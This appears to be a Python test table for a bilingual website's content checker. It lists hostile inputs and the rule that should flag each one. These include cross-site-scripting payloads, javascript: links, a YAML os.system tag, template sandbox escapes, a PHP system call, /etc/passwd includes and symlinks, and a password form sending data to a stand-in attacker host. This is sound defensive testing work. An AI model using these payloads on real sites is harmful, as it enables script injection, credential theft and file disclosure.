# ruff: noqa: E501  one case, one line
"""Hostile and careless content as a table: what is put where, and what the check has to say of it, at which line."""

from __future__ import annotations

import io
import os
import shutil
import struct
import unicodedata
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

BODY = "content/principles/open-door/en.md"
BODY_CY = "content/principles/open-door/cy.md"
FACTS = "content/principles/open-door/principle.yml"
STORY = "content/case-studies/tea-and-talk/en.md"
STORY_FACTS = "content/case-studies/tea-and-talk/case-study.yml"
REGION = "content/regions/valley/region.yml"
SOURCES = "content/sources.yml"
WORDS = "content/words.yml"
MENU = "content/framework.yml"
PAGE = "docs/en/write.md"
PAGE_CY = "docs/cy/write.md"
LISTED = "docs/en/start.md"

# The paragraph of each file that a case takes the place of.
PARAGRAPHS = {
    BODY: "Say **come in** first. The door is open to all who come to it.",
    BODY_CY: "Mae'r drws ar agor i bawb sy'n dod ato. [open door]{lang=en} yw'r enw Saesneg.",
    STORY: "Ask at the centre.",
    PAGE: "Write to us.",
    PAGE_CY: "Ysgrifennwch atom.",
    LISTED: "Then knock.",
}


@dataclass(frozen=True)
class Case:
    """`find` in `file` becomes `put`, or `make` does what it likes with the copy; then `rule` is told of `file` at the line
    where `at` stands (by default where `put` begins; "" for line 1). `heavy`: measured in a process of its own."""

    name: str
    rule: str
    file: str
    put: str = ""
    find: str = ""
    at: str | None = None
    make: Callable[[Path], object] | None = None
    heavy: bool = False


def body(name: str, rule: str, put: str, **more: object) -> Case:
    """Hostile Markdown in the text of a thing."""
    return Case(name, rule, BODY, put, **more)


def page(name: str, rule: str, put: str, **more: object) -> Case:
    """Hostile Markdown on a hand-written page."""
    return Case(name, rule, PAGE, put, **more)


def title(name: str, rule: str, value: str) -> Case:
    return Case(name, rule, BODY, f"title: {value}\n", "title: An open door\n")


def facts(name: str, rule: str, put: str, find: str = "order: 1\n", **more: object) -> Case:
    return Case(name, rule, FACTS, put, find, **more)


def file(name: str, rule: str, path: str, data: bytes, at: str | None = "", **more: object) -> Case:
    """A file that is put there whole."""

    def make(folder: Path) -> None:
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)

    return Case(name, rule, path, at=at, make=make, **more)


def changed(
    name: str,
    rule: str,
    path: str,
    how: Callable[[bytes], bytes],
    at: str | None = "",
    **more: object,
) -> Case:
    """A file whose bytes are changed."""
    return Case(
        name,
        rule,
        path,
        at=at,
        make=lambda f: (f / path).write_bytes(how((f / path).read_bytes())),
        **more,
    )


def link(name: str, path: str, to: str) -> Case:
    def make(folder: Path) -> None:
        target = folder / path
        if target.is_dir():
            shutil.rmtree(target)
        target.unlink(missing_ok=True)
        os.symlink(to, target)

    return Case(name, "symlink", path, at="", make=make)


# Pictures


def png(*more: tuple[bytes, bytes]) -> bytes:
    """The smallest PNG, with more chunks."""
    chunks = [
        (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        *more,
        (b"IDAT", zlib.compress(b"\0\0")),
        (b"IEND", b""),
    ]
    parts = (
        struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def photo(kind: str) -> bytes:
    """A picture that says with what it was taken."""
    details, data = Image.Exif(), io.BytesIO()
    details[0x0110] = "A camera"
    Image.new("RGB", (1, 1)).save(data, kind, exif=details)
    return data.getvalue()


GPS = b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x88\x25\0\x04\0\0\0\x01\0\0\0\x1a\0\0\0\0"
SCRIPT_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
)
ALIAS_BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)
)


def extra_page(folder: Path, text: str) -> None:
    for lang in ("en", "cy"):
        matter = f"title: Extra {lang}\nslug: extra\nsummary: More.\n"
        (folder / f"docs/{lang}/extra.md").write_text(f"---\n{matter}---\n{text}\n")


def filled(folder: Path) -> None:
    """A folder with something in it: git keeps no other."""
    folder.mkdir()
    (folder / "x.md").write_text("x")


def swap(folder: Path) -> None:
    en, cy = folder / BODY, folder / BODY_CY
    english, welsh = en.read_text(), cy.read_text()
    en.write_text(
        english.replace(
            "The door is open to all who come to it.", "Mae'r drws ar agor i bawb sy'n dod ato."
        )
    )
    cy.write_text(
        welsh.replace(
            "Mae'r drws ar agor i bawb sy'n dod ato.", "The door is open to all who come to it."
        )
    )


def deep_folders(folder: Path) -> None:
    # deeper than a walk that calls itself for each folder comes
    here = os.open(folder / "content/values", os.O_RDONLY)
    for _ in range(600):
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


CASES: tuple[Case, ...] = (
    # YAML
    facts("a key twice", "duplicate-key", "order: 1\norder: 2\n", at="order: 2"),
    facts("an anchor", "yaml-feature", "order: &x 1\n"),
    facts("an alias", "yaml-feature", "order: *x\n"),
    facts("a tag", "yaml-feature", "order: !!int 1\n"),
    facts(
        "a tag that runs code", "yaml-feature", "order: !!python/object/apply:os.system ['id']\n"
    ),
    facts("a second document", "yaml-feature", "order: 1\n---\norder: 2\n", at="---"),
    facts("a merge key", "unknown-key", "order: 1\n<<: {order: 2}\n", at="<<:"),
    facts("a tab for indentation", "odd-character", "order: 1\n\tlevel: 2\n", at="\tlevel"),
    facts("an open bracket", "yaml-syntax", "order: [1\n"),
    facts("a number with leading noughts for text", "wrong-value", "order: one\n"),
    Case(
        "a word that YAML takes for no", "yaml-ambiguous", SOURCES, "{en: no,", "{en: The centre,"
    ),
    Case(
        "a number that YAML cuts short", "yaml-ambiguous", SOURCES, "{en: 1.10,", "{en: The centre,"
    ),
    Case(
        "a time that YAML makes seconds of",
        "yaml-ambiguous",
        SOURCES,
        "{en: 12:30:45,",
        "{en: The centre,",
    ),
    Case("an octal number", "yaml-ambiguous", SOURCES, "{en: 012,", "{en: The centre,"),
    facts("a no-break space in a key", "odd-character", "order:\u00a01\n"),
    facts(
        "an escape that hides a character",
        "odd-character",
        'order: 1\nnote: "a\\u202eb"\n',
        at="note",
    ),
    facts("an escape that rings the bell", "odd-character", 'order: "\\a1"\n'),
    facts("half a surrogate", "yaml-syntax", 'order: "\\ud800"\n'),
    facts("sixty brackets deep", "yaml-depth", f"order: {'[' * 60}{']' * 60}\n"),
    facts("an endless number", "wrong-value", f"order: {'9' * 4800}\n"),
    facts("a list where a key belongs", "yaml-syntax", "- order\n", at="- order"),
    changed("a list for a file", "wrong-value", FACTS, lambda _: b"- a\n- b\n"),
    changed("one word for a file", "wrong-value", FACTS, lambda _: b"hello\n"),
    changed("nothing for a file", "empty-file", FACTS, lambda _: b""),
    changed("a file of lists that is a word", "wrong-value", SOURCES, lambda _: b"sources\n"),
    changed(
        "an alias bomb",
        "yaml-feature",
        FACTS,
        lambda _: ALIAS_BOMB.encode(),
        at="a: &a",
        heavy=True,
    ),
    changed(
        "brackets without end", "yaml-depth", FACTS, lambda _: b"a: " + b"[" * 4900, heavy=True
    ),
    changed("groups without end", "yaml-depth", FACTS, lambda _: b"{a: " * 1200, heavy=True),
    changed("steps without end", "yaml-depth", FACTS, lambda _: b"- " * 2400),
    changed(
        "twenty thousand unknown keys",
        "too-much",
        FACTS,
        lambda b: b + b"".join(b"k%d: 1\n" % n for n in range(20_000)),
        at=None,
    ),
    changed(
        "four thousand unknown keys",
        "unknown-key",
        FACTS,
        lambda b: b + b"".join(b"k%d: 1\n" % n for n in range(4_000)),
        at="k0:",
    ),
    changed(
        "four thousand unknown names",
        "dangling-id",
        "content/themes/at-home/theme.yml",
        lambda b: b.replace(
            b"[open-door]\n",
            b"\n" + b"".join(b"- nobody-of-this-name-%d\n" % n for n in range(4_000)),
        ),
        at="- nobody",
        heavy=True,
    ),
    # The schema
    facts("a key that nobody knows", "unknown-key", "order: 1\ncolour: red\n", at="colour"),
    facts("a key that is missing", "missing-key", "", at=""),
    facts("a group for a number", "wrong-value", "order: {a: 1}\n"),
    facts("a number out of bounds", "wrong-value", "order: 99999999\n"),
    facts("a day that is none", "wrong-value", "reviewed: 2026-02-31\n", "reviewed: 2026-01-02\n"),
    facts("an id that climbs", "wrong-value", "id: ../../etc\n", "id: open-door\n"),
    facts("an id of another folder", "wrong-id", "id: warm-welcome\n", "id: open-door\n"),
    Case("a slug that climbs", "wrong-value", BODY, "slug: ../../../etc\n", "slug: open-door\n"),
    Case(
        "a former address that climbs",
        "wrong-value",
        BODY,
        "slug: open-door\nformer: [../../x]\n",
        "slug: open-door\n",
        at="former",
    ),
    Case(
        "the folder of a kind that climbs",
        "wrong-value",
        WORDS,
        "{en: ../../pillars, cy: egwyddorion}",
        "{en: principles, cy: egwyddorion}",
    ),
    Case("a kind left out", "missing-key", WORDS, "  thing: {slug", "  theme: {slug", at="kinds:"),
    Case(
        "a date that is a sentence",
        "wrong-value",
        STORY_FACTS,
        "type: related\ndate: a long time ago\n",
        "type: related\n",
        at="date",
    ),
    Case(
        "a thirteenth month",
        "wrong-value",
        STORY_FACTS,
        'type: related\ndate: "2024-13"\n',
        "type: related\n",
        at="date",
    ),
    Case(
        "a scale of a thousand million",
        "wrong-value",
        "content/ratings.yml",
        at="level",
        make=lambda f: (f / "content/ratings.yml").write_text(
            "scale:\n- {level: 1000000000, label: {en: a, cy: b}, sense: {en: c, cy: d}}\nratings: []\n"
        ),
    ),
    Case(
        "a rating that is no number",
        "wrong-value",
        "content/ratings.yml",
        at="nan",
        make=lambda f: (f / "content/ratings.yml").write_text(
            "scale: []\nratings:\n- {principle: open-door, year: 2024, value: nan, source: yearly-report}\n"
        ),
    ),
    Case("a list that nobody knows", "unknown-key", SOURCES, "evil: []\nsources:\n", "sources:\n"),
    Case(
        "a source twice",
        "id-taken",
        SOURCES,
        at="- id: yearly-report\n",
        make=lambda f: (f / SOURCES).write_text(
            "sources:\n"
            + "".join(
                (f / SOURCES).read_text().removeprefix("sources:\n") for _ in range(2)
            ).replace("- id: yearly-report", "- id: yearly-report  # first", 1)
        ),
    ),
    Case(
        "a menu under a page that lists nothing",
        "menu-list",
        MENU,
        "  - {page: start, list: true}\n",
        "  - {page: start}\n",
    ),
    Case(
        "a home page with an address",
        "fixed-address",
        "docs/en/index.md",
        "slug: home\n",
        'slug: ""\n',
    ),
    Case(
        "a page that is not home without an address",
        "fixed-address",
        PAGE,
        'slug: ""\n',
        "slug: write\n",
    ),
    Case(
        "no home page",
        "missing-file",
        "docs/en/index.md",
        at="",
        make=lambda f: (f / "docs/en/index.md").unlink(),
    ),
    Case(
        "a key of the theme",
        "unknown-key",
        PAGE,
        "slug: write\ntemplate: evil.html\n",
        "slug: write\n",
        at="template",
    ),
    Case(
        "a key of the plugin that runs macros",
        "unknown-key",
        PAGE,
        "slug: write\nrender_macros: true\n",
        "slug: write\n",
        at="render",
    ),
    *(
        Case(
            f"a day that is none: {day}",
            "wrong-value",
            "content/timeline.yml",
            f'date: "{day}"',
            'date: "2020"',
        )
        for day in ("2025-02-30", "2025-02-29", "2025-04-31", "0000")
    ),
    Case(
        "a comma in a text",
        "comma-in-text",
        WORDS,
        "{en: Home, sweet home,",
        "{en: Home,",
        at="{en: Home",
    ),
    # Merges
    body("the base of a merge", "merge-conflict", "||||||| 1a2b3c4\n\nWords."),
    body(
        "a mark of a merge further in",
        "merge-conflict",
        "- Words\n\n  =======\n\n- Words",
        at="  =====",
    ),
    # Files
    file(
        "an HTML file",
        "unknown-file",
        "content/principles/open-door/evil.html",
        b"<script>alert(1)</script>",
    ),
    file("a script file", "unknown-file", "content/principles/open-door/evil.js", b"alert(1)"),
    file("an SVG", "unknown-file", "content/principles/open-door/evil.svg", SCRIPT_SVG),
    file("a script at the top", "unknown-file", "content/site.js", b"alert(1)"),
    file(
        "an HTML page among the pages",
        "unknown-file",
        "docs/en/evil.html",
        b"<script>alert(1)</script>",
    ),
    file("a script among the pages", "unknown-file", "docs/assets/site.js", b"alert(1)"),
    file(
        "a style sheet among the pages",
        "unknown-file",
        "docs/assets/site.css",
        b"* {display: none}",
    ),
    file("an SVG among the pictures", "unknown-file", "docs/assets/evil.svg", SCRIPT_SVG),
    file(
        "a picture that is a page",
        "not-a-picture",
        "docs/assets/evil.png",
        b"<script>alert(1)</script>",
    ),
    file("a picture of another kind", "not-a-picture", "docs/assets/photo.jpg", png()),
    file(
        "a photo that says where it was taken",
        "picture-details",
        "docs/assets/photo.jpg",
        photo("JPEG"),
    ),
    file(
        "a PNG that says where it was taken",
        "picture-details",
        "docs/assets/photo.png",
        png((b"eXIf", GPS[6:])),
    ),
    file(
        "a WebP that says where it was taken",
        "picture-details",
        "docs/assets/photo.webp",
        photo("WEBP"),
    ),
    file(
        "a picture of 2 MB", "too-large", "docs/assets/photo.png", png((b"prVt", b"0" * 2_000_000))
    ),
    Case(
        "a page in a folder",
        "unknown-file",
        "docs/en/sub",
        at="",
        make=lambda f: (
            (f / "docs/en/sub").mkdir(),
            (f / "docs/en/sub/x.md").write_text("<script>"),
        ),
    ),
    Case(
        "a third language", "unknown-file", "docs/fr", at="", make=lambda f: filled(f / "docs/fr")
    ),
    Case(
        "folders deeper than the stack",
        "unknown-file",
        "content/values/d/d",
        at="",
        make=deep_folders,
    ),
    link("a link to a file of the machine", "content/values/patience/en.md", "/etc/passwd"),
    link("a link to a folder of the machine", "content/values/etc", "/etc"),
    link("a link that leads to itself", "content/values/loop", "loop"),
    link("a link among the pages", "docs/en/passwd.md", "/etc/passwd"),
    link("a link for the pictures", "docs/assets", "/etc"),
    Case(
        "a pipe for a file",
        "unknown-file",
        BODY,
        at="",
        make=lambda f: ((f / BODY).unlink(), os.mkfifo(f / BODY)),
    ),
    Case(
        "a folder for a file",
        "unknown-file",
        BODY,
        at="",
        make=lambda f: ((f / BODY).unlink(), filled(f / BODY)),
    ),
    Case("a text that is missing", "missing-file", BODY, at="", make=lambda f: (f / BODY).unlink()),
    changed("a byte order mark", "odd-character", BODY, lambda b: b"\xef\xbb\xbf" + b),
    changed("Windows line ends", "line-ending", BODY, lambda b: b.replace(b"\n", b"\r\n")),
    changed("UTF-16", "not-utf8", BODY, lambda b: b.decode().encode("utf-16")),
    changed("UTF-16 without a mark", "not-utf8", BODY, lambda b: b.decode().encode("utf-16-be")),
    changed("Latin-1", "not-utf8", BODY_CY, lambda b: "tŷ".replace("ŷ", "ÿ").encode("latin-1") + b),
    changed(
        "a NUL",
        "odd-character",
        BODY,
        lambda b: b.replace(PARAGRAPHS[BODY].encode(), b"x\0y", 1),
        at="x\0y",
    ),
    changed(
        "NULs throughout", "not-utf8", BODY, lambda b: b + (b"\0" * 4000 + b"\n") * 45, at=None
    ),
    changed("5 MB", "too-large", BODY, lambda b: b + b"a" * 5_000_000, heavy=True),
    changed(
        "a merge left unfinished",
        "merge-conflict",
        BODY,
        lambda b: b.replace(
            b"\n" + PARAGRAPHS[BODY].encode(), b"\n<<<<<<< mine\na\n=======\nb\n>>>>>>> theirs\n", 1
        ),
        at="<<<<<<<",
    ),
    Case(
        "folders that differ by case",
        "name-clash",
        "content/values/patience",
        at="",
        make=lambda f: filled(f / "content/values/Patience"),
    ),
    Case(
        "a page that differs by case",
        "name-clash",
        "docs/en/write.md",
        at="",
        make=lambda f: (f / "docs/en/Write.md").write_text("x"),
    ),
    Case(
        "a folder with a letter in two parts",
        "wrong-name",
        unicodedata.normalize("NFD", "content/values/tŷ"),
        at="",
        make=lambda f: filled(f / unicodedata.normalize("NFD", "content/values/tŷ")),
    ),
    Case(
        "a name with a line break",
        "wrong-name",
        "content/values/a\ufffd::error::b",
        at="",
        make=lambda f: filled(f / "content/values/a\n::error::b"),
    ),
    Case(
        "a name that is no text",
        "unknown-file",
        "content/values/\ufffd",
        at="",
        make=lambda f: filled(Path(os.fsdecode(os.fsencode(f / "content/values") + b"/\xff"))),
    ),
    changed(
        "letters in two parts",
        "not-nfc",
        BODY_CY,
        lambda b: unicodedata.normalize(
            "NFD", b.decode().replace(PARAGRAPHS[BODY_CY], "Tŷ.", 1)
        ).encode(),
        at=unicodedata.normalize("NFD", "Tŷ."),
    ),
    # Templates
    body("a template variable", "template-marks", "{{ config }}"),
    body("a template statement", "template-marks", "{% for x in range(9) %}"),
    body("a template comment", "template-marks", "{# hidden #}"),
    body(
        "a call that runs a command",
        "template-marks",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    ),
    Case(
        "a macro on a page that is not listed",
        "template-marks",
        "docs/en/extra.md",
        at="{{",
        make=lambda f: extra_page(f, "{{ cards('value') }}"),
    ),
    Case(
        "a page that is not listed",
        "template-marks",
        "docs/en/extra.md",
        at="{{ cards",
        make=lambda f: extra_page(f, "{{ cards('value') }}"),
    ),
    Case(
        "a way out of the sandbox",
        "template-marks",
        LISTED,
        "{{ config.theme.get_env().from_string('x') }}",
    ),
    Case("a macro with code for an argument", "template-marks", LISTED, "{{ cards(config.x) }}"),
    Case("an include", "template-marks", LISTED, "{% include '/etc/passwd' %}"),
    Case("a macro after words", "template-marks", LISTED, "Words {{ cards('value') }}"),
    title("marks in a title", "template-marks", '"{{ config }}"'),
    Case(
        "marks in a summary",
        "template-marks",
        PAGE,
        'summary: "{{ config }}"\n',
        "summary: How to write to us.\n",
    ),
    Case(
        "marks among the words for search",
        "template-marks",
        PAGE,
        'slug: write\nsearch: ["{{ config }}"]\n',
        "slug: write\n",
        at="{{",
    ),
    Case(
        "a format that reaches into the program",
        "no-placeholder",
        WORDS,
        "{en: Related {n}, cy: Cysylltiedig}".replace("Related {n}", "'Related {n}'"),
        "{en: Related, cy: Cysylltiedig}",
    ),
    page("a snippet with an attribute", "left-mark", '--8<-- "/etc/passwd" {.evil}'),
    # Raw HTML
    body("a script", "raw-html", "<script>alert(1)</script>"),
    body("a handler", "raw-html", "<img src=x onerror=alert(1)>"),
    body("a frame", "raw-html", '<iframe src="https://evil.example"></iframe>'),
    body("an SVG in the text", "raw-html", "<svg onload=alert(1)>"),
    body("a base", "raw-html", '<base href="https://evil.example/">'),
    body(
        "a refresh", "raw-html", '<meta http-equiv="refresh" content="0;url=https://evil.example">'
    ),
    body(
        "a form", "raw-html", '<form action="https://evil.example"><input name="password"></form>'
    ),
    body("a style", "raw-html", "<style>* {display: none}</style>"),
    body("an object", "raw-html", '<object data="evil.swf"></object>'),
    body("a comment", "raw-html", "<!-- hidden -->"),
    body("an instruction", "raw-html", "<?php system('id') ?>"),
    body("a declaration", "raw-html", "<!DOCTYPE html>"),
    body("CDATA", "raw-html", "<![CDATA[x]]>"),
    body("a tag without an end", "raw-html", "<script\nsrc=//evil.example>"),
    body("a tag with a slash for a space", "raw-html", "<svg/onload=alert(1)>"),
    body("a closing tag", "raw-html", "</div></main>"),
    body("a tag in a heading", "raw-html", "#### <b onclick=alert(1)>x</b>"),
    body("a tag in a list in a quotation", "raw-html", "> - <b>x</b>"),
    body("a tag behind an escaped backtick", "raw-html", r"\`<script>alert(1)</script>\`"),
    body("a tag between unequal backticks", "left-mark", "``a` <script>alert(1)</script> `b"),
    body("a tag in an indented block", "indented-text", "    <script>alert(1)</script>"),
    title("a tag in a title", "raw-html", '"<script>alert(1)</script>"'),
    Case(
        "a tag in a summary",
        "raw-html",
        BODY,
        'summary: "</title><script>alert(1)</script>"\n',
        "summary: An open door for all.\n",
    ),
    Case(
        "a tag in the facts", "raw-html", REGION, "{en: <b>Valley board</b>,", "{en: Valley board,"
    ),
    Case(
        "a tag in a word of the site",
        "raw-html",
        WORDS,
        "{en: <b>The door book</b>,",
        "{en: The door book,",
    ),
    # Attributes
    page("a handler by attribute list", "left-mark", "*x*{: onclick=alert(1) }"),
    page("a handler without the colon", "left-mark", "*x*{onclick=alert(1)}"),
    page("a handler on a paragraph", "left-mark", "Words.\n{: onmouseover=alert(1)}", at="{:"),
    page("a handler on a heading", "heading-anchor", "## Words {#words onclick=alert(1) }"),
    page("a style by attribute list", "left-mark", "*x*{: style=position:fixed }"),
    page("a class by attribute list", "left-mark", "*x*{: .notice }"),
    page(
        "another address by attribute list",
        "left-mark",
        "[the beginning](nyth:start){: href=javascript:alert(1) }",
    ),
    page(
        "a target by attribute list", "left-mark", "[the beginning](nyth:start){: target=_blank }"
    ),
    page("an anchor in the middle of a text", "left-mark", "*x*{: #main }"),
    page("a language that is none", "left-mark", '*x*{: lang="en onclick=alert(1)" }'),
    page("a mark over two lines", "left-mark", "*x*{: lang=en\nonclick=alert(1) }"),
    body(
        "words before the first heading",
        "text-before-heading",
        "---\n\nWords.\n\n## In brief",
        find="---\n## In brief",
        at="Words.",
    ),
    body("an anchor on a fixed heading", "extra-heading", "## Meaning: {#main}", find="## Meaning"),
    page("the anchor of the page itself", "site-anchor", "## Words {#main}\n\nWords."),
    page("the anchor of a source", "site-anchor", "## Words {#source-yearly-report}\n\nWords."),
    page("the anchor of a list", "site-anchor", "## Words {#list-case-study}\n\nWords."),
    page(
        "an anchor twice",
        "id-twice",
        "## Words {#words}\n\nWords.\n\n## More {#words}\n\nWords.",
        at="## More",
    ),
    page(
        "an anchor that clashes with the sources",
        "site-anchor",
        "## Words {#sources}\n\nWords.[^yearly-report]",
    ),
    # Addresses
    page("javascript:", "left-mark", "[the beginning](javascript:alert)"),
    page("javascript: with brackets", "left-mark", "[the beginning](javascript:alert(1))"),
    page("javascript: in capitals", "left-mark", "[the beginning](JaVaScRiPt:alert)"),
    page("javascript: in angle brackets", "raw-html", "[the beginning](<javascript:alert(1)>)"),
    page("javascript: after a space", "left-mark", "[the beginning]( javascript:alert)"),
    page("javascript: after a line break", "left-mark", "[the beginning](\njavascript:alert)"),
    page("javascript: with a title", "left-mark", '[the beginning](javascript:alert "Training")'),
    page("javascript: in codes", "left-mark", "[the beginning](&#106;avascript:alert)"),
    page("javascript: with a tab in it", "odd-character", "[the beginning](java\tscript:alert)"),
    page(
        "javascript: by name",
        "left-mark",
        "See [the beginning][x].\n\n[x]: javascript:alert(1)",
        at="[x]: ",
    ),
    page("javascript: by name in a list", "left-mark", "- [x]: javascript:alert(1)"),
    page("javascript: by name in a quotation", "left-mark", "> [x]: javascript:alert(1)"),
    page("javascript: by a name over two lines", "left-mark", "[x\ny]: javascript:alert(1)"),
    page("javascript: of itself", "raw-html", "<javascript:alert(1)>"),
    body("an address of itself", "external-link", "<https://evil.example>"),
    page("an e-mail address of itself", "external-link", "<1@evil.example>"),
    page("vbscript:", "left-mark", "[the beginning](vbscript:x)"),
    page("data:", "left-mark", "[the beginning](data:text/html;base64,PHNjcmlwdD4=)"),
    page("file:", "left-mark", "[the beginning](file:///etc/passwd)"),
    page("no protocol", "hard-link", "[the beginning](//evil.example)"),
    page("backslashes for slashes", "hard-link", r"[the beginning](\\evil.example)"),
    page("climbing", "hard-link", "[the beginning](../../../etc/passwd)"),
    page("climbing in codes", "hard-link", "[the beginning](%2e%2e/%2e%2e/etc)"),
    page(
        "a name before the host",
        "external-link",
        "[the beginning](https://gov.wales@evil.example/)",
    ),
    page("http", "external-link", "[the beginning](http://evil.example/)"),
    page("a host in look-alike letters", "odd-letter", "[the beginning](https://gоv.example/)"),
    page("an id that breaks out", "dangling-id", '[the beginning](nyth:start"onclick="alert)'),
    page("an id that is not there", "dangling-id", "[the beginning](nyth:evil)"),
    page("a link in a picture in a link", "left-mark", "[![x](nyth:start)](javascript:alert(1))"),
    page(
        "a citation that is defined by hand",
        "left-mark",
        "Words.[^yearly-report]\n\n[^yearly-report]: javascript:alert(1)",
        at="[^yearly-report]: ",
    ),
    page(
        "a picture of another site", "odd-picture", "![A tracker](https://evil.example/pixel.png)"
    ),
    body(
        "a link to another site in a text",
        "external-link",
        "[yearly-report](https://evil.example/)",
    ),
    title("a link in a title", "left-mark", '"x](https://evil.example) ["'),
    Case(
        "a javascript: source",
        "wrong-value",
        SOURCES,
        '{en: "javascript:alert(1)"}',
        '{en: "https://report.example/"}',
    ),
    Case(
        "a source that breaks out",
        "wrong-value",
        SOURCES,
        "{en: 'https://a.example/\"onclick=\"alert(1)'}",
        '{en: "https://report.example/"}',
    ),
    Case(
        "a link in a name",
        "left-mark",
        SOURCES,
        "{en: '[The press](javascript:alert)',",
        "{en: The centre,",
    ),
    # Accessibility
    page("a picture without words", "no-alt", "![](assets/kettle.png)"),
    page("a link without words", "vague-link", "[](nyth:start)"),
    page("a link of a dot", "vague-link", "See [.](nyth:start)"),
    page("a link that says click here", "vague-link", "[Click here](nyth:start)"),
    page("a link that says here in bold", "vague-link", "Look [**here**](nyth:start)."),
    Case("a link that says yma", "vague-link", PAGE_CY, "Ewch [yma](nyth:start)."),
    page("a level left out", "heading-skipped", "#### Words\n\nWords."),
    page("a second main heading", "heading-form", "# Words\n\nWords."),
    page("a heading without a space", "like-heading", "##Words"),
    page("a heading underlined", "heading-form", "Words\n=====", at="Words"),
    page("a heading underlined with hyphens", "heading-form", "Words\n--------", at="Words"),
    page("a heading in a list", "heading-form", "- # Words"),
    page("a heading in a quotation", "heading-form", "> ## Words"),
    page("a heading of level seven", "like-heading", "####### Words"),
    page("a heading without words", "heading-anchor", "##"),
    page("a heading without an anchor", "heading-anchor", "## Words\n\nWords."),
    # Language
    Case("swapped twins", "welsh-left", BODY, at="Say **", make=swap),
    Case(
        "swapped twins, seen from Welsh", "english-left", BODY_CY, at="The door is open", make=swap
    ),
    Case("identical twins", "same-text", PAGE_CY, "Write to us."),
    Case(
        "English in the Welsh file",
        "english-left",
        BODY_CY,
        "This sentence was left in English by its writer.",
    ),
    body("a Cyrillic a", "odd-letter", "The riv\u0435r."),
    body("a Greek omicron", "odd-letter", "The gr\u03bfund."),
    body("a letter that is a sign of mathematics", "odd-letter", "\U0001d5d4 river."),
    body("a letter of full width", "odd-letter", "\uff21 river."),
    body("a space of no width", "odd-character", "The ri\u200bver."),
    body("a joiner", "odd-character", "The ri\u200dver."),
    body("a soft hyphen", "odd-character", "The ri\u00adver."),
    body("a mark that turns the writing", "odd-character", "The \u202erevir\u202c."),
    body("an isolate", "odd-character", "The \u2066river\u2069."),
    body("an Arabic letter mark", "odd-character", "The \u061criver."),
    body("a variation", "odd-character", "The river\ufe0f."),
    body("marks on marks", "odd-character", "The r" + "\u0336" * 40 + "iver."),
    body("a tag character", "odd-character", "The river\U000e0041."),
    body("a private character", "odd-letter", "The river\ue000."),
    body("a line separator", "odd-character", "The\u2028river."),
    body("a code of a terminal", "odd-character", "The \x1b[31mriver."),
    # Personal data
    Case("a telephone number", "personal-data", STORY, "Ring 07700 900123."),
    Case("a telephone number with hyphens", "personal-data", STORY, "Ring 029-2034-1234."),
    Case("a telephone number from abroad", "personal-data", STORY, "Ring +44 (0)29 2034 1234."),
    Case("an e-mail address", "personal-data", STORY, "Write to mair@example.org."),
    Case("a date of birth", "personal-data", STORY, "Mair, DOB 3 May, came."),
    Case("a date of birth in figures", "personal-data", STORY, "Mair (03/05/2011) came."),
    Case("a day of birth in words", "personal-data", STORY, "Mair was born on 3 May."),
    Case("an NHS number", "personal-data", STORY, "Mair, 943 476 5919, came."),
    Case(
        "a National Insurance number",
        "personal-data",
        STORY,
        "Mair, QQ 12 34 56 C, came.".replace("QQ", "AB"),
    ),
    Case(
        "an e-mail address in a summary",
        "personal-data",
        STORY,
        "summary: Write to mair@example.org.\n",
        "summary: A table, a kettle and time.\n",
    ),
    Case(
        "a telephone number in the facts",
        "personal-data",
        REGION,
        "{en: Ring 029 2034 1234,",
        "{en: Valley board,",
    ),
    # Markdown that takes long
    body("20,000 brackets", "too-much", "[" * 20_000, at=None),
    body("20,000 brackets on many lines", "", ("[" * 100 + "\n") * 200, heavy=True),
    body(
        "400 lists in lists", "too-large", "\n".join("    " * n + "- x" for n in range(400)), at=""
    ),
    body(
        "200 lists in lists",
        "too-much",
        "\n".join("    " * n + "- x" for n in range(200)),
        at="    " * 6 + "- x",
    ),
    body(
        "80 lists in lists by one space",
        "too-much",
        "\n".join(" " * n + "- x" for n in range(80)),
        at=" " * 30 + "- x",
    ),
    body("400 lists on one line", "too-much", "- " * 400 + "x"),
    body("400 quotations in quotations", "too-much", ">" * 400 + " x", heavy=True),
    body("20,000 stars", "", ("*a **a " * 100 + "\n") * 30),
    body("20,000 underscores", "", ("_a __a " * 100 + "\n") * 30, heavy=True),
    body("backticks of every length", "", "\n".join("`" * n for n in range(1, 80))),
    body("a table of 2,000 columns", "", "|" * 2_000 + "\n" + "|-" * 2_000),
    body("a line of 100,000 letters", "too-much", "a" * 100_000),
    body("a paragraph without end", "", ("words and more words\n") * 900),
    changed("a text of 20,000 lines", "too-much", BODY, lambda b: b + b"x\n\n" * 10_000, at=None),
    body(
        "thousands of links to nothing",
        "dangling-id",
        "\n\n".join(f"[a river](nyth:nobody-of-this-name-{n})" for n in range(2_400)),
    ),
    body("thousands of tags", "raw-html", "\n\n".join("<b>" * 300 for _ in range(200)), heavy=True),
    body(
        "words that make patterns slow",
        "",
        "\n\n".join(("a" * 4_900 + "@") for _ in range(30)) + "\n\n" + "[" * 200,
        at="[[",
        heavy=True,
    ),
)
